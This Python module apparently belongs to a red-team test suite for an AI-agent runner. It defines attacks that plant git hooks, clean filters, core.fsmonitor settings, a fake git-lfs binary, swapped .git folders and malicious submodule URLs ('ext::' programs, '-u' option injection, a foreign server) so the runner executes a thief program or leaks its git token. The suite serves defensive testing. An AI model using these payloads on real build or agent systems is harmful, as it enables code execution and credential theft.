"""What lies in a tree or beside it: other git folders, nested repositories, submodules, LFS."""

from __future__ import annotations

import base64
import subprocess
from collections.abc import Callable
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Any

from boardhand_api import pod
from boardhand_api.pod import Stage
from boardhand_runner import git, submodules
from testbed.redteam.attack import Attack, Outcome
from testbed.redteam.git_config import HOOKS
from testbed.redteam.guards import Switch, attack, mounts, replaced, under
from testbed.redteam.lures import listening
from testbed.redteam.raid import GIT_TOKEN, THIEF, WORK, Raid, call, run, stolen

EVIL = (
    "git init -q . && "
    + " && ".join(f"cp {THIEF} .git/hooks/{name}" for name in HOOKS)
    + f" && git config filter.evil.clean {THIEF} && git config core.fsmonitor {THIEF}"
    + " && git config user.name x && git config user.email x && echo '* filter=evil' >.gitattributes"
)
BUSY = "Device or resource busy"


def attacks() -> list[Attack]:
    """Every attack of this theme."""
    return [*_other_folders(), *_nested(), *_submodules()]


def _pointer_unmounted() -> AbstractContextManager[Any]:
    return mounts(Stage.WORKBENCH, lambda row: [mount for mount in row if mount.path != pod.WORK / ".git"])


def _found_by_itself() -> AbstractContextManager[Any]:
    """As if git looked for its folder by itself."""
    made = git.Git.__init__

    def changed(one: git.Git, *arguments: Any, **more: Any) -> None:
        made(one, *arguments, **more)
        if one.environment.pop("GIT_WORK_TREE", None):
            del one.environment["GIT_DIR"]

    return replaced(git.Git, "__init__", changed)()


def _other_folders() -> list[Attack]:
    swapped = [run(f"rm -rf .git; mv .git old; {EVIL}"), WORK]
    elsewhere = f"mkdir @LOOT@/w && cd @LOOT@/w && {EVIL}"
    return [
        attack(
            "git-file-swapped",
            "a git folder of the attacker's in the place of the run's own",
            lambda: Raid([run(f"{elsewhere}; cd -; rm -f .git; mv @LOOT@/w/.git .git"), WORK], stolen, BUSY),
            short=True,
        ),
        attack(
            "git-folder-swapped-where-the-file-is-open",
            "the same, once the .git file could be replaced",
            lambda: Raid(swapped, stolen),
            "git is told its folder and its work tree",
            _found_by_itself,
            breach=(_pointer_unmounted,),
        ),
        attack(
            "git-variables-in-the-workbench",
            "another git folder, by what the environment says",
            lambda: Raid(
                [run(f"{elsewhere}; export GIT_DIR=@LOOT@/w/.git; git config --global core.fsmonitor {THIEF}"), WORK],
                stolen,
            ),
        ),
        attack(
            "worktree-of-the-attackers",
            "a linked work tree whose folder the attacker holds",
            lambda: Raid(
                [
                    run(f"{elsewhere}; cd -; mkdir s; echo 'gitdir: @LOOT@/w/.git' >s/.git; git worktree add @LOOT@/t"),
                    WORK,
                ],
                stolen,
            ),
        ),
    ]


def _nested() -> list[Attack]:
    nested = f"mkdir sub && cd sub && {EVIL}"
    lfs = 'mkdir -p "$HOME/bin"; cp @LOOT@/thief "$HOME/bin/git-lfs"; cp @LOOT@/thief git-lfs; PATH="$HOME/bin:$PATH"'
    return [
        attack(
            "repository-within-the-repository",
            "a nested repository whose filters git add would run",
            lambda: Raid([run(f"{nested}; git -c core.hooksPath=x commit -q --allow-empty -m x"), WORK], stolen),
        ),
        attack(
            "lfs-hooks-and-filters",
            "Git LFS, run beside the secrets from a repository that says where it is",
            lambda: Raid(
                [
                    run(f"{lfs}; echo '*.bin filter=lfs diff=lfs merge=lfs -text' >.gitattributes; echo x >a.bin"),
                    call("write_file", path=".lfsconfig", content="[lfs]\n\turl = http://127.0.0.1:9/\n"),
                    WORK,
                ],
                stolen,
            ),
        ),
        attack(
            "attributes-and-git-config-in-the-tree",
            "filters and encodings that only files of the tree configure",
            lambda: Raid(
                [
                    run("echo '* filter=evil diff=evil merge=evil working-tree-encoding=UTF-16' >.gitattributes"),
                    call("write_file", path=".gitconfig", content=f'[filter "evil"]\n\tclean = {THIEF}\n'),
                    run("rm .gitattributes; echo '* filter=evil' >.gitattributes"),
                    WORK,
                ],
                stolen,
            ),
        ),
    ]


def _submodules() -> list[Attack]:
    token = base64.b64encode(f"bot:{GIT_TOKEN}".encode()).decode()

    def elsewhere(*off: Switch) -> Outcome:
        with listening() as heard:
            raid = Raid([], lambda _: heard.has(token), source=_submodule(f"{heard.url}/x.git"), given=FETCHED)
            return under(raid, *off)

    def given(_: str, url: str | None, __: str) -> str:
        return url or ""

    return [
        Attack(
            "submodule-of-another-server",
            "the token, sent to the server that a submodule names",
            elsewhere,
            lambda: elsewhere(replaced(submodules, "resolved", given)),
            "submodules are fetched from the repository's own server",
        ),
        attack(
            "submodule-by-a-program",
            "a submodule whose address is a program",
            lambda: Raid([], stolen, source=_submodule(f"ext::{THIEF}"), given=FETCHED),
        ),
        attack(
            "submodule-with-an-option",
            "a submodule whose address is an option of git's",
            lambda: Raid([], stolen, source=_submodule(f"-u{THIEF}"), given=FETCHED),
        ),
    ]


FETCHED = {"submodules": True}


def _submodule(url: str) -> Callable[[Path], None]:
    def made(source: Path) -> None:
        about = ("-c", "user.name=Somebody", "-c", "user.email=somebody@example.org")
        address = url.replace("@LOOT@", str(source.parent / "loot"))
        (source / ".gitmodules").write_text(f'[submodule "s"]\n\tpath = s\n\turl = {address}\n')
        _git(source, "add", ".gitmodules")
        _git(source, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},s")
        _git(source, *about, "commit", "-q", "-m", "base")

    return made


def _git(folder: Path, *words: str) -> None:
    subprocess.run(["git", "-C", str(folder), *words], check=True, capture_output=True)
